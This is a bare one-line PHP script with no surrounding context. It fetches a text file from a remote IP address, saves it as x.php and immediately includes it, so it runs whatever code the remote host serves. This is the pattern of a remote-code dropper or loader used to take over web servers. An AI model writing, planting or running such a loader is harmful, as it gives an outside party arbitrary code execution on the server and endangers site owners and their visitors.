<?php $d = file_get_contents('http://203.0.113.4/p.txt'); file_put_contents('x.php', $d); include 'x.php';
